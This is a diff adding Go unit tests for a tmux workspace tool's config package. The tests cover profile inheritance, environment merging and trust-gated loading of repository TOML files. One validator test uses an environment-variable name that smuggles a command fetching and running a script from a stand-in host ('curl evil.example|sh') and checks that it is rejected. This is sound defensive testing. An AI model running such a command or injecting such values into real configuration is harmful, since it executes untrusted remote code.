@@ -0,0 +1,302 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/cockroachdb/errors"
+)
+
+func testTmuxConfig() TmuxConfig {
+	return TmuxConfig{
+		Windows: []TmuxWindow{
+			{Name: "note"},
+			{Name: "code"},
+		},
+		Profiles: map[string]TmuxProfile{
+			"incident": {
+				Extends:     DefaultProfile,
+				TicketTypes: []string{"incident", "ops"},
+				Windows:     []TmuxWindow{{Name: "logs"}},
+			},
+			"frontend": {
+				Repos:   []string{"web"},
+				Windows: []TmuxWindow{{Name: "code"}, {Name: "dev-server"}},
+			},
+			"frontend-debug": {
+				Extends: "frontend",
+				Windows: []TmuxWindow{{Name: "browser"}},
+			},
+		},
+	}
+}
+
+func windowNames(windows []TmuxWindow) string {
+	names := make([]string, 0, len(windows))
+	for _, w := range windows {
+		names = append(names, w.Name)
+	}
+	return strings.Join(names, ",")
+}
+
+func TestResolveProfile(t *testing.T) {
+	tmuxCfg := testTmuxConfig()
+
+	tests := []struct {
+		name        string
+		profile     string
+		ticketType  string
+		repoName    string
+		wantProfile string
+		wantWindows string
+	}{
+		{name: "default", ticketType: "proj", repoName: "api", wantProfile: "default", wantWindows: "note,code"},
+		{name: "by ticket type extends default", ticketType: "incident", repoName: "api", wantProfile: "incident", wantWindows: "note,code,logs"},
+		{name: "ticket type is case insensitive", ticketType: "OPS", wantProfile: "incident", wantWindows: "note,code,logs"},
+		{name: "by repo", ticketType: "proj", repoName: "web", wantProfile: "frontend", wantWindows: "code,dev-server"},
+		{name: "ticket type wins over repo", ticketType: "incident", repoName: "web", wantProfile: "incident", wantWindows: "note,code,logs"},
+		{name: "explicit wins", profile: "frontend", ticketType: "incident", wantProfile: "frontend", wantWindows: "code,dev-server"},
+		{name: "explicit default", profile: "default", ticketType: "incident", wantProfile: "default", wantWindows: "note,code"},
+		{name: "chained extends", profile: "Frontend-Debug", wantProfile: "frontend-debug", wantWindows: "code,dev-server,browser"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			name, windows, err := tmuxCfg.ResolveProfile(tt.profile, tt.ticketType, tt.repoName)
+			if err != nil {
+				t.Fatalf("ResolveProfile() error: %v", err)
+			}
+			if name != tt.wantProfile {
+				t.Errorf("profile = %q, want %q", name, tt.wantProfile)
+			}
+			if got := windowNames(windows); got != tt.wantWindows {
+				t.Errorf("windows = %q, want %q", got, tt.wantWindows)
+			}
+		})
+	}
+}
+
+func TestResolveProfile_Errors(t *testing.T) {
+	tmuxCfg := testTmuxConfig()
+
+	if _, _, err := tmuxCfg.ResolveProfile("missing", "", ""); err == nil || !strings.Contains(err.Error(), "frontend") {
+		t.Errorf("unknown profile error should list available profiles, got: %v", err)
+	}
+
+	tmuxCfg.Profiles["a"] = TmuxProfile{Extends: "b"}
+	tmuxCfg.Profiles["b"] = TmuxProfile{Extends: "a"}
+	if _, _, err := tmuxCfg.ResolveProfile("a", "", ""); err == nil {
+		t.Error("ResolveProfile() should reject an extends cycle")
+	}
+
+	tmuxCfg.Profiles["c"] = TmuxProfile{Extends: "missing"}
+	if _, _, err := tmuxCfg.ResolveProfile("c", "", ""); err == nil {
+		t.Error("ResolveProfile() should reject extending an unknown profile")
+	}
+}
+
+func TestProfileEnv_InvalidName(t *testing.T) {
+	tmuxCfg := testTmuxConfig()
+	tmuxCfg.Profiles["incident"] = TmuxProfile{
+		Env: map[string]string{"X=1;curl evil.example|sh;Y": "1"},
+	}
+
+	if _, err := tmuxCfg.ProfileEnv("incident"); err == nil || !strings.Contains(err.Error(), "tmux.profiles.incident.env") {
+		t.Errorf("ProfileEnv() error = %v, want an invalid name error", err)
+	}
+
+	tmuxCfg.Env = map[string]string{"1ST": "x"}
+	if _, err := tmuxCfg.ProfileEnv(DefaultProfile); err == nil || !strings.Contains(err.Error(), "tmux.env") {
+		t.Errorf("ProfileEnv() error = %v, want an invalid name error", err)
+	}
+}
+
+func TestProfileEnv(t *testing.T) {
+	tmuxCfg := testTmuxConfig()
+	tmuxCfg.Env = map[string]string{"editor": "nvim", "LOG_DIR": "{worktree_path}/logs"}
+	tmuxCfg.Profiles["incident"] = TmuxProfile{
+		Extends: DefaultProfile,
+		Env:     map[string]string{"LOG_DIR": "/var/log", "KUBECONFIG": "~/.kube/prod"},
+	}
+
+	env, err := tmuxCfg.ProfileEnv(DefaultProfile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(env) != 2 || env["EDITOR"] != "nvim" {
+		t.Errorf("default env = %v", env)
+	}
+
+	env, err = tmuxCfg.ProfileEnv("Incident")
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]string{"EDITOR": "nvim", "LOG_DIR": "/var/log", "KUBECONFIG": "~/.kube/prod"}
+	if len(env) != len(want) {
+		t.Errorf("incident env = %v, want %v", env, want)
+	}
+	for key, value := range want {
+		if env[key] != value {
+			t.Errorf("incident env[%s] = %q, want %q", key, env[key], value)
+		}
+	}
+
+	// Profiles that don't extend default don't inherit tmux.env
+	if env, err = tmuxCfg.ProfileEnv("frontend-debug"); err != nil || len(env) != 0 {
+		t.Errorf("frontend-debug env = %v, %v; want empty", env, err)
+	}
+
+	if _, err := tmuxCfg.ProfileEnv("missing"); err == nil {
+		t.Error("ProfileEnv() should fail for an unknown profile")
+	}
+}
+
+// trustedStore returns a trust store that approves the given files
+func trustedStore(t *testing.T, files ...string) *TrustStore {
+	t.Helper()
+	store, err := LoadTrustStore(filepath.Join(t.TempDir(), "trust.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, file := range files {
+		if err := store.Trust(file); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return store
+}
+
+func TestLoadRepoConfig(t *testing.T) {
+	cfg := &Config{Tmux: testTmuxConfig()}
+
+	dir := t.TempDir()
+	path, err := LoadRepoConfig(cfg, dir, nil)
+	if err != nil {
+		t.Fatalf("LoadRepoConfig() without file error: %v", err)
+	}
+	if path != "" {
+		t.Errorf("LoadRepoConfig() without file path = %q, want empty", path)
+	}
+
+	content := `
+[tmux.profiles.frontend]
+repos = ["web"]
+
+[[tmux.profiles.frontend.windows]]
+name = "storybook"
+
+[tmux.profiles.review]
+extends = "default"
+
+[[tmux.profiles.review.windows]]
+name = "diff"
+`
+	if err := os.WriteFile(filepath.Join(dir, RepoConfigFile), []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	path, err = LoadRepoConfig(cfg, dir, trustedStore(t, filepath.Join(dir, RepoConfigFile)))
+	if err != nil {
+		t.Fatalf("LoadRepoConfig() error: %v", err)
+	}
+	if path != filepath.Join(dir, RepoConfigFile) {
+		t.Errorf("LoadRepoConfig() path = %q", path)
+	}
+
+	// Global default windows are untouched
+	if got := windowNames(cfg.Tmux.Windows); got != "note,code" {
+		t.Errorf("default windows = %q, want note,code", got)
+	}
+
+	// Same-named profile is replaced
+	_, windows, err := cfg.Tmux.ResolveProfile("", "proj", "web")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := windowNames(windows); got != "storybook" {
+		t.Errorf("frontend windows = %q, want storybook", got)
+	}
+
+	// New profile is added; other global profiles remain
+	if _, windows, err = cfg.Tmux.ResolveProfile("review", "", ""); err != nil || windowNames(windows) != "note,code,diff" {
+		t.Errorf("review windows = %q, err = %v", windowNames(windows), err)
+	}
+	if _, _, err = cfg.Tmux.ResolveProfile("incident", "", ""); err != nil {
+		t.Errorf("global incident profile should remain: %v", err)
+	}
+}
+
+func TestLoadRepoConfig_OverridesWindows(t *testing.T) {
+	cfg := &Config{}
+
+	dir := t.TempDir()
+	content := `
+[tmux]
+allowed_commands = ["just"]
+
+[tmux.env]
+API_URL = "http://localhost:8080"
+
+[[tmux.windows]]
+name = "only"
+`
+	if err := os.WriteFile(filepath.Join(dir, RepoConfigFile), []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := LoadRepoConfig(cfg, dir, trustedStore(t, filepath.Join(dir, RepoConfigFile))); err != nil {
+		t.Fatalf("LoadRepoConfig() error: %v", err)
+	}
+	if got := windowNames(cfg.Tmux.Windows); got != "only" {
+		t.Errorf("windows = %q, want only", got)
+	}
+	if len(cfg.Tmux.AllowedCommands) != 1 || cfg.Tmux.AllowedCommands[0] != "just" {
+		t.Errorf("AllowedCommands = %v, want [just]", cfg.Tmux.AllowedCommands)
+	}
+	if env, err := cfg.Tmux.ProfileEnv(DefaultProfile); err != nil || env["API_URL"] != "http://localhost:8080" {
+		t.Errorf("ProfileEnv() = %v, %v; want API_URL from repo config", env, err)
+	}
+}
+
+func TestLoadRepoConfig_Untrusted(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, RepoConfigFile)
+	if err := os.WriteFile(path, []byte("[tmux]\nallowed_commands = [\"rm\"]\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := &Config{}
+	if _, err := LoadRepoConfig(cfg, dir, trustedStore(t)); !errors.Is(err, ErrUntrusted) {
+		t.Errorf("LoadRepoConfig() error = %v, want ErrUntrusted", err)
+	}
+
+	// Approved, then modified: rejected until approved again
+	store := trustedStore(t, path)
+	if err := os.WriteFile(path, []byte("[tmux]\nallowed_commands = [\"rm\", \"curl\"]\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	_, err := LoadRepoConfig(cfg, dir, store)
+	if !errors.Is(err, ErrUntrusted) {
+		t.Errorf("LoadRepoConfig() after change error = %v, want ErrUntrusted", err)
+	}
+	if err != nil && !strings.Contains(err.Error(), "changed") {
+		t.Errorf("error should say the file changed, got: %v", err)
+	}
+
+	if len(cfg.Tmux.AllowedCommands) != 0 {
+		t.Errorf("untrusted config should not be merged, AllowedCommands = %v", cfg.Tmux.AllowedCommands)
+	}
+}
+
+func TestLoadRepoConfig_Invalid(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, RepoConfigFile), []byte("[tmux\nbroken"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := LoadRepoConfig(&Config{}, dir, trustedStore(t, filepath.Join(dir, RepoConfigFile))); err == nil {
+		t.Error("LoadRepoConfig() should fail on invalid TOML")
+	}
+}